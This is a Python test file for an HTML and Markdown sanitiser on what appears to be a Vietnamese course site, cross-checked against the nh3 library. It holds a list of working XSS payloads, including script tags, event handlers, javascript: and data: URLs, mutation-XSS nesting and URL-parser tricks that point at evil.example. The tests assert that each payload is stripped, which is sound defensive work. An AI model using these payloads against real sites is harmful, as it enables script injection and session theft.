"""The sanitiser on hostile input, held against nh3 as a second opinion."""

from __future__ import annotations

import html
from html.parser import HTMLParser
from urllib.parse import urlsplit

import nh3
import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.courses.render import render_markdown
from app.courses.sanitize import (
    ALLOWED_PROTOCOLS,
    ALLOWED_TAGS,
    attribute_allowed,
    is_allowed_video_url,
    sanitize_html,
)

VIDEO_HOSTS = ("www.youtube-nocookie.com", "player.vimeo.com")

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    '<img src="javascript:alert(1)">',
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href="jav&#x09;ascript:alert(1)">click</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<iframe src="https://evil.example/embed"></iframe>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe src="http://www.youtube-nocookie.com/embed/abc"></iframe>',
    '<iframe src="https://www.youtube-nocookie.com.evil.example/embed/abc"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<svg onload=alert(1)><circle r=5 /></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<p onclick="alert(1)" onmouseover="alert(2)">text</p>',
    '<form action="https://evil.example"><input name=p><button>Go</button></form>',
    '<object data="x.swf"></object><embed src="x.swf">',
    "<link rel=stylesheet href=//evil.example/x.css><style>body{display:none}</style>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    "<!--<img src=x onerror=alert(1)>-->",
    '<img src="x" alt="a" title="t" class="evil-class" id="login">',
    '<h2 id="csrf_token onfocus=alert(1)">Title</h2>',
    '<table><tr><td background="javascript:alert(1)">x</td></tr></table>',
    '<a href="https://example.vn" target="_top" rel="opener">ok</a>',
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    '<a href="  javascript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<div class="admonition warning"><p class="admonition-title">Chú ý</p><p>Nội dung</p></div>',
    '<iframe src="https://www.youtube-nocookie.com/embed/abc" title="Video" allowfullscreen></iframe>',
    # Where urllib and browsers (WHATWG) disagree about the host, and other ways out of the allow-lists
    '<iframe src="https://evil.example\\@www.youtube-nocookie.com/embed/abc"></iframe>',
    '<iframe src="https://evil.example&#92;@www.youtube-nocookie.com/embed/abc"></iframe>',
    '<iframe src="https://evil.example%5C@www.youtube-nocookie.com/embed/abc"></iframe>',
    '<iframe src="https://www.youtube-nocookie.com:443@evil.example/embed/abc"></iframe>',
    '<iframe src="https://www.youtube-nocookie.com&#9;@evil.example/embed/abc"></iframe>',
    '<iframe src="https://www.youtube-nocookie.com\\.evil.example/embed/abc"></iframe>',
    '<iframe src="https:\\\\evil.example\\www.youtube-nocookie.com/embed/abc"></iframe>',
    '<iframe src="https://www.youtube-nocookie.com/embed/abc" allow="camera; microphone; geolocation">'
    "</iframe>",
    '<a href="//evil.example/x">x</a><a href="\\\\evil.example/x">y</a><a href="/\\evil.example">z</a>',
    '<a href="/&#9;/evil.example/x">x</a><a href=" //evil.example">y</a>',
    '<img src="//evil.example/x.png" alt="a"><img src="http://evil.example/x.png" alt="b">',
    '<img src="\\\\evil.example/x.png" alt="a"><img src="mailto:x@evil.example" alt="b">',
    '<a href="https://example.vn" rel="noopener opener">x</a>',
]


class _Collector(HTMLParser):
    """What survived: tags, (tag, attribute) pairs and URL schemes."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.attributes: set[tuple[str, str]] = set()
        self.schemes: set[str] = set()

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        for name, value in attrs:
            self.attributes.add((tag, name))
            if name in {"href", "src"} and value:
                self.schemes.add(urlsplit(value.strip()).scheme.lower())


def _survivors(html: str) -> _Collector:
    collector = _Collector()
    collector.feed(html)
    collector.close()
    return collector


def _nh3(html: str) -> str:
    return nh3.clean(
        html,
        tags=set(ALLOWED_TAGS),
        attributes={
            tag: {
                "href",
                "src",
                "alt",
                "title",
                "rel",
                "width",
                "height",
                "loading",
                "id",
                "class",
                "start",
                "align",
                "colspan",
                "rowspan",
                "scope",
                "allow",
                "allowfullscreen",
            }
            for tag in ALLOWED_TAGS
        },
        attribute_filter=lambda tag, name, value: (
            value if attribute_allowed(tag, name, value, VIDEO_HOSTS) else None
        ),
        url_schemes=set(ALLOWED_PROTOCOLS),
        link_rel=None,
        strip_comments=True,
    )


@pytest.mark.parametrize("html", HOSTILE)
def test_nothing_survives_bleach_that_nh3_would_strip(html):
    """nh3, given what bleach let through, finds nothing more to remove."""
    ours = sanitize_html(html, VIDEO_HOSTS)
    kept = _survivors(ours)
    second = _survivors(_nh3(ours))
    assert kept.tags <= second.tags, html
    assert kept.attributes <= second.attributes, html
    assert kept.schemes <= second.schemes, html


@pytest.mark.parametrize("html", HOSTILE)
def test_bleach_keeps_no_url_scheme_that_nh3_refuses_on_the_same_input(html):
    """The two parsers may build different trees from broken markup; URL schemes must agree."""
    assert _survivors(sanitize_html(html, VIDEO_HOSTS)).schemes <= _survivors(_nh3(html)).schemes | {""}


@pytest.mark.parametrize("html", HOSTILE)
def test_no_script_handlers_or_foreign_frames(html):
    cleaned = sanitize_html(html, VIDEO_HOSTS)
    survivors = _survivors(cleaned)
    assert (
        not {
            "script",
            "style",
            "form",
            "input",
            "object",
            "embed",
            "svg",
            "math",
            "base",
            "meta",
            "link",
            "details",
            "video",
        }
        & survivors.tags
    )
    assert not any(
        name.startswith("on") or name in {"style", "srcdoc", "background", "target"}
        for _, name in survivors.attributes
    )
    assert survivors.schemes <= {"", "http", "https", "mailto"}
    if "iframe" in survivors.tags:
        assert 'src="https://www.youtube-nocookie.com/embed/abc"' in cleaned


def test_allowed_content_is_kept():
    html = sanitize_html(
        '<div class="admonition warning"><p class="admonition-title">Chú ý</p></div>'
        '<iframe src="https://player.vimeo.com/video/1" title="V"></iframe>'
        '<a href="https://dichvucong.gov.vn">DVC</a><img src="/media/abc" alt="Sơ đồ">',
        VIDEO_HOSTS,
    )
    assert 'class="admonition warning"' in html
    assert '<iframe src="https://player.vimeo.com/video/1"' in html
    assert 'href="https://dichvucong.gov.vn"' in html
    assert '<img src="/media/abc" alt="Sơ đồ">' in html


def test_frames_from_hosts_not_listed_disappear():
    assert "iframe" not in sanitize_html('<iframe src="https://evil.example/x"></iframe>', VIDEO_HOSTS)
    assert "iframe" not in sanitize_html(
        '<iframe src="https://www.youtube-nocookie.com/embed/x"></iframe>', ()
    )


def test_markdown_is_rendered_and_sanitised():
    html = render_markdown(
        "## Xác thực hai lớp\n\n"
        "| Cột | Giá trị |\n|:--|--:|\n| a | 1 |\n\n"
        '!!! tip "Mẹo"\n    Dùng ứng dụng xác thực.\n\n'
        "```\n<script>alert(1)</script>\n```\n\n"
        "[xấu](javascript:alert(1)) <img src=x onerror=alert(1)> [tốt](https://example.vn)\n",
        video_hosts=VIDEO_HOSTS,
    )
    assert '<h2 id="xac-thuc-hai-lop">' in html
    assert "<table>" in html and 'align="right"' in html
    assert 'class="admonition tip"' in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html  # shown as code, not run
    assert "javascript:" not in html and "onerror" not in html
    assert 'href="https://example.vn" rel="noopener noreferrer"' in html


@pytest.mark.parametrize(
    "src",
    [
        "https://evil.example\\@www.youtube-nocookie.com/embed/abc",
        "https://evil.example@www.youtube-nocookie.com/embed/abc",
        "https://user:pw@www.youtube-nocookie.com/embed/abc",
        "https://www.youtube-nocookie.com:443/embed/abc",
        "https://www.youtube-nocookie.com\\.evil.example/embed/abc",
        "https:\\\\www.youtube-nocookie.com/embed/abc",
        "https:www.youtube-nocookie.com/embed/abc",
        " https://www.youtube-nocookie.com/embed/abc",
        "https://www.youtube-nocookie.com/embed/abc\t",
        "https://www.youtube-nocookie.com./embed/abc",
        "https://www.yo\u0075tube-nocookie.com/embed/abc".replace("u", "\u0443", 1),  # Cyrillic у
        "//www.youtube-nocookie.com/embed/abc",
        "HTTPS://evil.example/embed/abc",
    ],
)
def test_a_video_address_any_parser_could_read_two_ways_is_refused(src):
    assert not is_allowed_video_url(src, VIDEO_HOSTS)
    assert "iframe" not in sanitize_html(f'<iframe src="{html.escape(src)}" title="V"></iframe>', VIDEO_HOSTS)


@pytest.mark.parametrize(
    "src",
    [
        "https://www.youtube-nocookie.com/embed/abc",
        "https://www.youtube-nocookie.com/embed/abc?start=30&rel=0#t",
        "https://WWW.YouTube-NoCookie.com/embed/abc",
        "https://player.vimeo.com/video/1?h=ab%20cd",
    ],
)
def test_plain_video_addresses_are_kept(src):
    assert is_allowed_video_url(src, VIDEO_HOSTS)


def test_iframe_allow_takes_only_the_short_list():
    frame = '<iframe src="https://www.youtube-nocookie.com/embed/abc" title="V" allow="{}"></iframe>'
    assert "allow=" not in sanitize_html(frame.format("camera; microphone; geolocation"), VIDEO_HOSTS)
    assert "allow=" not in sanitize_html(frame.format("fullscreen; camera"), VIDEO_HOSTS)
    kept = sanitize_html(frame.format("fullscreen; picture-in-picture; encrypted-media"), VIDEO_HOSTS)
    assert 'allow="fullscreen; picture-in-picture; encrypted-media"' in kept


def test_rel_takes_only_known_values():
    assert "rel=" not in sanitize_html('<a href="https://example.vn" rel="opener">x</a>')
    assert "rel=" not in sanitize_html('<a href="https://example.vn" rel="noopener me">x</a>')
    kept = sanitize_html('<a href="https://example.vn" rel="nofollow noopener noreferrer">x</a>')
    assert 'rel="nofollow noopener noreferrer"' in kept


@pytest.mark.parametrize(
    "href", ["//evil.example/x", "\\\\evil.example/x", "/\\evil.example", "/\t/evil.example"]
)
def test_protocol_relative_links_lose_their_address(href):
    assert "href" not in sanitize_html(f'<a href="{html.escape(href)}">x</a>')


def test_images_are_relative_or_https():
    for src in ("//evil.example/x.png", "http://evil.example/x.png", "mailto:a@b.vn", "\\\\evil.example/x"):
        assert "src=" not in sanitize_html(f'<img src="{html.escape(src)}" alt="a">'), src
    for src in ("/media/abc", "https://example.vn/x.png", "images/x.png"):
        assert f'src="{src}"' in sanitize_html(f'<img src="{src}" alt="a">'), src


def test_markdown_protocol_relative_link_and_image_are_dropped():
    html_out = render_markdown(
        "[x](//evil.example/a) ![y](//evil.example/b.png) ![z](http://evil.example/c.png)"
    )
    assert "evil.example" not in html_out


class _Urls(HTMLParser):
    """Each href and img src (frames are left to the host tests), as a browser reads the markup."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.urls: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.urls += [v for n, v in attrs if v is not None and (n == "href" or (tag == "img" and n == "src"))]


def _urls(markup: str) -> list[str]:
    parser = _Urls()
    parser.feed(markup)
    parser.close()
    return parser.urls


def _nh3_keeps_url(url: str) -> bool:
    """nh3's own verdict on one address, with its own URL parser and the same schemes."""
    probe = f'<a href="{html.escape(url)}">x</a>'
    return "href" in nh3.clean(probe, tags={"a"}, url_schemes=set(ALLOWED_PROTOCOLS), link_rel=None)


@pytest.mark.parametrize("html_in", HOSTILE)
def test_every_address_we_keep_is_one_nh3_keeps_on_its_own(html_in):
    """nh3 judges each surviving link and picture address alone, without our attribute filter."""
    for url in _urls(sanitize_html(html_in, VIDEO_HOSTS)):
        assert _nh3_keeps_url(url), (html_in, url)


_FRAGMENTS = st.sampled_from(
    HOSTILE + ["<p>", "</p>", "<a ", "href=", '"', "'", ">", "&#92;", "\\", "//", "@"]
)


@pytest.mark.fuzz
@given(st.lists(st.one_of(_FRAGMENTS, st.text(max_size=12)), max_size=12).map("".join))
def test_fuzz_mixed_hostile_fragments_keep_the_policy(html_in):
    cleaned = sanitize_html(html_in, VIDEO_HOSTS)
    kept = _survivors(cleaned)
    assert kept.tags <= set(ALLOWED_TAGS)
    assert not any(name.startswith("on") or name in {"style", "srcdoc"} for _, name in kept.attributes)
    assert kept.schemes <= {"", "http", "https", "mailto"}
    assert kept.attributes <= _survivors(_nh3(cleaned)).attributes
    again = _survivors(sanitize_html(cleaned, VIDEO_HOSTS))  # a second pass removes nothing more
    assert (again.tags, again.attributes, again.schemes) == (kept.tags, kept.attributes, kept.schemes)
